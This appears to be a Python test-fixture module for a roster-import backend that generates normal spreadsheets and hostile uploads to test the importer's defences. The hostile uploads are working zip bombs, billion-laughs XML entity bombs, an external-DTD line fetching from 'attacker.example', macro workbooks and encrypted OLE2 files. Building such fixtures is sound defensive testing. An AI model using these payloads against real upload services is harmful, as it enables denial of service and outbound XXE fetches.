"""Real files, built on the fly, of the kinds users (and attackers) upload: rosters with a title
row or Excel dates, CSV in GBK or UTF-8, and hostile files — zip bombs (one whose central
directory lies), XML entity bombs, macro workbooks, encrypted OLE2 files, images renamed .xlsx.

Zip bombs are written by hand (local headers, central directory, zip64 when a declared size needs
it) from a deflate stream that repeats one compressed block, so a 10 GB bomb takes milliseconds
to build and ~10 MB on disk."""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from functools import cache
from pathlib import Path
from typing import Any

from openpyxl import Workbook

from backend.imports.spec import Cell, Column
from backend.members.id_numbers import make_id_number

REGION = "510104"  # Helper A's test region: ID numbers here collide with no other test

SHEET = "xl/worksheets/sheet1.xml"
SHARED_STRINGS = "xl/sharedStrings.xml"
CONTENT_TYPES = "[Content_Types].xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XML_DECLARATION = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
WORKSHEET_OPEN = f'<worksheet xmlns="{MAIN_NS}"><dimension ref="A1:B2"/><sheetData>'.encode()
NAME_CELL = 't="inlineStr"><is><t>姓名</t></is>'.encode()
GENDER_CELL = 't="inlineStr"><is><t>性别</t></is>'.encode()
HEADER_ROW = b'<row r="1"><c r="A1" ' + NAME_CELL + b'</c><c r="B1" ' + GENDER_CELL + b"</c></row>"
SHEET_START = XML_DECLARATION + WORKSHEET_OPEN + HEADER_ROW  # then rows, then SHEET_END
SHEET_END = b"</sheetData></worksheet>"


def text(value: Cell) -> Any:
    """Columns in these tests keep what they are given."""
    return value


# A small roster: enough kinds of column for header matching, masking and drop-downs.
COLUMNS: tuple[Column, ...] = (
    Column("name", "姓名", text, required=True, comment="与身份证一致"),
    Column(
        "id_number",
        "公民身份号码",
        text,
        required=True,
        synonyms=("身份证号", "身份证号码"),
        personal=True,
        mask=lambda value: value[:3] + "*" * (len(value) - 7) + value[-4:],
        comment="18 位，末位可为 X",
        width=22,
    ),
    Column("gender", "性别", text, choices=("男", "女")),
    Column("born_on", "出生日期", text, comment="如 2024-03-01"),
    Column("phone", "手机号码", text, synonyms=("联系电话",), personal=True),
    Column("joined_on", "入党日期", text),
)


def id_number(sequence: int, born: date = date(1990, 1, 1)) -> str:
    return make_id_number(REGION, born, sequence)


def roster_rows(count: int) -> list[list[Any]]:
    return [
        [f"成员{i}", id_number(i % 1000), "男" if i % 2 else "女", "1990-01-01", f"138{i:08d}"]
        for i in range(count)
    ]


HEADER = ["姓名", "公民身份号码", "性别", "出生日期", "手机号码"]


# --- ordinary files ----------------------------------------------------------------------------


def xlsx_file(
    path: Path,
    rows: Iterable[Any],  # each a sequence of cell values
    *,
    title: str | None = None,
    hidden_first: bool = False,
) -> Path:
    """An .xlsx written by openpyxl (as Excel would: dates as serial numbers with a date format).
    `title` adds a merged title row above the header; `hidden_first` puts a hidden sheet first."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    if hidden_first:
        sheet.title = "旧数据"
        sheet.append(["不要", "读取"])
        sheet.sheet_state = "hidden"
        sheet = workbook.create_sheet("名册")
    if title:
        sheet.append([title])
        sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=5)
    for row in rows:
        sheet.append(list(row))
    workbook.save(path)
    return path


def roster_xlsx(path: Path, count: int, **options: Any) -> Path:
    return xlsx_file(path, [HEADER, *roster_rows(count)], **options)


def csv_file(path: Path, content: str, encoding: str) -> Path:
    path.write_bytes(content.encode(encoding))
    return path


def roster_csv_text(count: int, delimiter: str = ",") -> str:
    lines = [delimiter.join(HEADER)]
    lines += [delimiter.join(str(value) for value in row) for row in roster_rows(count)]
    return "\r\n".join(lines) + "\r\n"


def oversized(path: Path, size: int) -> Path:
    """A sparse file of `size` bytes that starts like a zip: nothing should read past its size."""
    with path.open("wb") as handle:
        handle.write(b"PK\x03\x04")
        handle.truncate(size)
    return path


def png(path: Path) -> Path:
    """A real 1x1 PNG image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )
    return path


# --- zips written by hand ----------------------------------------------------------------------


@dataclass(frozen=True)
class RawEntry:
    name: str
    packed: bytes  # the bytes stored in the archive
    crc: int
    size: int  # the true uncompressed size
    method: int = zipfile.ZIP_DEFLATED
    declared_size: int | None = None  # what the central directory claims, when it lies
    flags: int = 0x800  # UTF-8 names; bit 0 marks the entry encrypted


def deflated(name: str, content: bytes) -> RawEntry:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    return RawEntry(name, packed, zlib.crc32(content), len(content))


def repeated(name: str, prefix: bytes, fill: bytes, times: int, suffix: bytes) -> RawEntry:
    """prefix + fill * times + suffix, deflated without ever holding the inflated bytes: after a
    full flush the compressor forgets its history, so every `fill` compresses identically."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(fill) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(suffix) + packer.flush()
    return RawEntry(
        name,
        head + block * times + end,
        _repeated_crc(prefix, fill, times, suffix),
        len(prefix) + len(fill) * times + len(suffix),
    )


@cache
def _repeated_crc(prefix: bytes, fill: bytes, times: int, suffix: bytes) -> int:
    crc = zlib.crc32(prefix)
    for _ in range(times):
        crc = zlib.crc32(fill, crc)
    return zlib.crc32(suffix, crc)


def write_zip(path: Path, entries: Sequence[RawEntry]) -> Path:
    """A zip with local headers and a central directory; zip64 extra fields for declared sizes
    of 4 GB or more."""
    local = io.BytesIO()
    central = io.BytesIO()
    for entry in entries:
        offset = local.tell()
        name = entry.name.encode()
        declared = entry.size if entry.declared_size is None else entry.declared_size
        zip64 = declared >= 0xFFFFFFFF
        size_field = 0xFFFFFFFF if zip64 else declared
        extra = struct.pack("<HHQ", 1, 8, declared) if zip64 else b""
        version = 45 if zip64 else 20
        fields = (entry.method, 0, 0x21, entry.crc, len(entry.packed), size_field, len(name))
        local.write(struct.pack("<IHHH", 0x04034B50, version, entry.flags, fields[0]))
        local.write(struct.pack("<HHIII", *fields[1:6]))
        local.write(struct.pack("<HH", len(name), len(extra)) + name + extra + entry.packed)
        central.write(struct.pack("<IHHHH", 0x02014B50, version, version, entry.flags, fields[0]))
        central.write(struct.pack("<HHIII", *fields[1:6]))
        central.write(struct.pack("<HHHHHII", len(name), len(extra), 0, 0, 0, 0, offset))
        central.write(name + extra)
    directory = central.getvalue()
    start = local.tell()
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), start, 0
    )
    path.write_bytes(local.getvalue() + directory + end)
    return path


def xlsx_parts(
    rows: Iterable[Sequence[Any]] = ([*HEADER], ["张三", "x", "男"]),
) -> dict[str, bytes]:
    """The parts of a genuine openpyxl workbook, to tamper with."""
    buffer = io.BytesIO()
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def tampered_xlsx(path: Path, replace: dict[str, bytes], drop: Iterable[str] = ()) -> Path:
    parts = xlsx_parts()
    parts.update(replace)
    for name in drop:
        parts.pop(name, None)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def zip_bomb_xlsx(path: Path, inflated_mib: int = 1024) -> Path:
    """A genuine workbook whose sheet is well-formed XML padded with `inflated_mib` MiB of
    spaces: a reader that trusts it inflates (and parses) all of it. Declared sizes are honest;
    above 4 GB they are declared through zip64."""
    entries = [deflated(name, content) for name, content in xlsx_parts().items() if name != SHEET]
    bomb = repeated(SHEET, SHEET_START, b" " * (1024 * 1024), inflated_mib, SHEET_END)
    return write_zip(path, [*entries, bomb])


def lying_zip_xlsx(path: Path, declared: int, inflated_mib: int = 1024) -> Path:
    """A sheet of `inflated_mib` MiB of empty rows whose central directory declares it `declared`
    bytes long (the compressed size stays true)."""
    entries = [deflated(name, content) for name, content in xlsx_parts().items() if name != SHEET]
    rows = b"<row/>" * (1024 * 1024 // 6)
    bomb = repeated(SHEET, SHEET_START, rows, inflated_mib, SHEET_END)
    lie = RawEntry(bomb.name, bomb.packed, bomb.crc, bomb.size, declared_size=declared)
    return write_zip(path, [*entries, lie])


def many_entries_xlsx(path: Path, count: int) -> Path:
    entries = [deflated(name, content) for name, content in xlsx_parts().items()]
    entries += [deflated(f"xl/media/image{i}.png", b"") for i in range(count)]
    return write_zip(path, entries)


def giant_row_xlsx(path: Path, row_bytes: int) -> Path:
    """One row of about `row_bytes` bytes of numbered cells, all held at once by a reader."""
    cells = b"".join(b"<c><v>%d</v></c>" % i for i in range(row_bytes // 16))
    sheet = SHEET_START + b'<row r="2">' + cells + b"</row>" + SHEET_END
    return tampered_xlsx(path, {SHEET: sheet})


# --- XML entity bombs --------------------------------------------------------------------------

BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


EXTERNAL_DTD = b'<!DOCTYPE worksheet SYSTEM "http://attacker.example/evil.dtd">'


def entity_bomb_sheet_xlsx(path: Path, padding: int = 0, doctype: bytes = BILLION_LAUGHS) -> Path:
    """Billion laughs in the worksheet: a cell holds &lol9; (10^9 "lol"s, 3 GB when expanded).
    `padding` bytes of prolog whitespace move the DOCTYPE deep into the part; `doctype` may be
    another, e.g. EXTERNAL_DTD (fetched by a parser that resolves external DTDs)."""
    bomb_row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    prolog = XML_DECLARATION + b" " * padding + doctype
    sheet = prolog + WORKSHEET_OPEN + HEADER_ROW + bomb_row + SHEET_END
    return tampered_xlsx(path, {SHEET: sheet})


def plain(text: str) -> bytes:
    """A shared string's content without formatting."""
    return b"<t>" + text.encode() + b"</t>"


def shared_strings_xlsx(path: Path, strings: Sequence[bytes], prolog: bytes = b"") -> Path:
    """A workbook whose cells come from xl/sharedStrings.xml, as Excel writes them: the header
    (姓名, 性别) is strings 0 and 1, the data row is string 2. Each of `strings` is the XML
    inside one <si> (see plain()); `prolog` goes before <sst>."""
    parts = xlsx_parts()
    items = b"".join(b"<si>" + item + b"</si>" for item in strings)
    table = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + prolog
        + b'<sst xmlns="'
        + MAIN_NS.encode()
        + b'">'
        + items
        + b"</sst>"
    )
    sheet = (
        SHEET_START.replace(NAME_CELL, b't="s"><v>0</v>').replace(GENDER_CELL, b't="s"><v>1</v>')
        + b'<row r="2"><c r="A2" t="s"><v>2</v></c></row>'
        + SHEET_END
    )
    rels = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Target="sharedStrings.xml" Type="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>',
    )
    types = parts[CONTENT_TYPES].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats'
        b'-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    replace = {SHARED_STRINGS: table, SHEET: sheet, "xl/_rels/workbook.xml.rels": rels}
    return tampered_xlsx(path, {**replace, CONTENT_TYPES: types})


def entity_bomb_shared_strings_xlsx(path: Path) -> Path:
    """Billion laughs in the shared strings, which openpyxl loads when the workbook opens."""
    return shared_strings_xlsx(
        path, [plain("姓名"), plain("性别"), plain("&lol9;")], BILLION_LAUGHS
    )


# --- macros and OLE2 ---------------------------------------------------------------------------

MACRO_MAIN = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SHEET_MAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def macro_xlsx(path: Path, *, with_project: bool = True, macro_type: bool = True) -> Path:
    """What Excel writes for an .xlsm: xl/vbaProject.bin (an OLE2 file) and a macroEnabled main
    content type. Either half alone is enough to refuse."""
    types = xlsx_parts()[CONTENT_TYPES]
    if macro_type:
        types = types.replace(SHEET_MAIN, MACRO_MAIN).replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        )
    replace = {CONTENT_TYPES: types}
    if with_project:
        replace["xl/vbaProject.bin"] = ole2_bytes({"PROJECT": b'ID="{00000000}"\r\nModule=Module1'})
    return tampered_xlsx(path, replace)


def ole2_bytes(streams: dict[str, bytes]) -> bytes:
    """A minimal but valid compound file (version 3, 512-byte sectors): a FAT sector, one
    directory sector and each stream in regular sectors (padded past the 4 KB mini-stream cutoff).
    Holds at most three streams."""
    assert len(streams) <= 3
    end_of_chain, free, fat_sector, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    padded = {
        name: data.ljust(max(4096, -(-len(data) // 512) * 512), b"\x00")
        for name, data in streams.items()
    }
    fat = [fat_sector, end_of_chain]
    starts = []
    for data in padded.values():
        first = len(fat)
        count = len(data) // 512
        starts.append(first)
        fat += [first + i + 1 for i in range(count - 1)] + [end_of_chain]
    assert len(fat) <= 128
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le") if name else b""
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", no_stream, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    # Siblings ordered as the format wants (by length, then name): a right-leaning chain.
    names = sorted(padded, key=lambda n: (len(n), n.upper()))
    entries = [entry("Root Entry", 5, 1 if names else no_stream, no_stream, end_of_chain, 0)]
    for index, name in enumerate(names):
        right = index + 2 if index + 1 < len(names) else no_stream
        entries.append(
            entry(name, 2, no_stream, right, starts[list(padded).index(name)], len(streams[name]))
        )
    while len(entries) < 4:
        entries.append(entry("", 0, no_stream, no_stream, 0, 0))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end_of_chain, 0, end_of_chain, 0)
        + struct.pack("<109I", 0, *([free] * 108))
    )
    assert len(header) == 512
    return header + struct.pack("<128I", *fat) + b"".join(entries) + b"".join(padded.values())


def encrypted_xlsx(path: Path) -> Path:
    """What Excel saves for a workbook with an open password: an OLE2 file holding the
    encryption header and the encrypted OOXML package."""
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
        b'xmlns="http://schemas.microsoft.com/office/2006/encryption"/>'
    )
    package = struct.pack("<Q", 8000) + os.urandom(8000)
    path.write_bytes(ole2_bytes({"EncryptionInfo": info, "EncryptedPackage": package}))
    return path


def legacy_xls(path: Path) -> Path:
    """An Excel 97-2003 workbook's container: OLE2 with a Workbook (BIFF8) stream."""
    bof = struct.pack("<HHHH", 0x0809, 16, 0x0600, 0x0005) + bytes(12)
    path.write_bytes(ole2_bytes({"Workbook": bof + struct.pack("<HH", 0x000A, 0)}))
    return path


def serial_dates_xlsx(path: Path) -> Path:
    """Dates as Excel keeps them: serial numbers, shown through a date format (openpyxl reads
    those as dates), plus one typed into a General cell (stays the number 45352)."""
    rows = [
        [*HEADER, "入党日期"],
        ["张三", id_number(1), "男", datetime(1990, 1, 1), "13800000001", datetime(2024, 3, 1)],
        ["李四", id_number(2), "女", datetime(1991, 2, 3, 8, 30), "13800000002", 45352],
    ]
    return xlsx_file(path, rows)
